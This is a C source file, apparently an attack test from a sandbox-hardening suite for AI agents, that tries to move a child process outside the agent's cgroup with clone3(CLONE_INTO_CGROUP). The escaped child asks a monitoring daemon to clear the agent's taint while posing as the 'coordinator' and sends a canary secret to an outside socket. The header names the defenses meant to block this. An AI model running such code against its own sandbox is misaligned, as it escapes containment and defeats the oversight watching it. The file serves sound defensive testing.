// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* cgroup_clone3_escape - threat model (docs/threat-model.md): leaving the cgroup. clone3(CLONE_INTO_CGROUP) with an fd on a cgroup
 * directory outside the agent's tree (the cgroup2 root, opened read-only) puts the child outside
 * the agent's cgroup: untainted, it sends the canary to an outsider, and asks mncd to clear the
 * parent's taint (taint.reset) in case mncd takes it for the admin.
 * Verifier: the collector's unix-stream listener.
 * Blocks it: seccomp (clone3 -> ENOSYS), the agent's own cgroup namespace (the target is outside
 * it), no write access to cgroup.procs outside the tree. */
#include <fcntl.h>
#include <linux/sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "atk.h"

static int agent(struct atk_ctx *c)
{
    int cg = (int)atk_try(c, "open cgroup root", open(atk_arg(c, "cg2"), O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    if (cg < 0)
        return 0;
    struct clone_args ca = {.flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD, .cgroup = (__u64)cg};
    long pid = syscall(SYS_clone3, &ca, sizeof(ca));
    if (pid == 0) {
        char resp[4096];
        int m = atk_mncd(c);
        if (m >= 0 && atk_call(m, "{\"verb\":\"taint.reset\",\"agent\":\"coordinator\"}", resp, sizeof(resp)) == 0)
            atk_note(c, "escaped child taint.reset: %s", strstr(resp, "\"ok\":true") ? "OK" : "denied");
        int fd = (int)atk_try(c, "escaped child connect", atk_unix(SOCK_STREAM, atk_arg(c, "c_unix")));
        if (fd >= 0)
            atk_try(c, "escaped child write", write(fd, c->secret, strlen(c->secret)));
        _exit(0);
    }
    if (atk_try(c, "clone3(CLONE_INTO_CGROUP)", pid) > 0)
        waitpid((pid_t)pid, NULL, 0);
    return 0;
}

static const struct atk A = {"cgroup_clone3_escape",
                             "clone3(CLONE_INTO_CGROUP) child outside the agent's cgroup",
                             0,
                             NULL,
                             agent,
                             NULL,
                             NULL,
                             NULL};
ATK_MAIN(A)
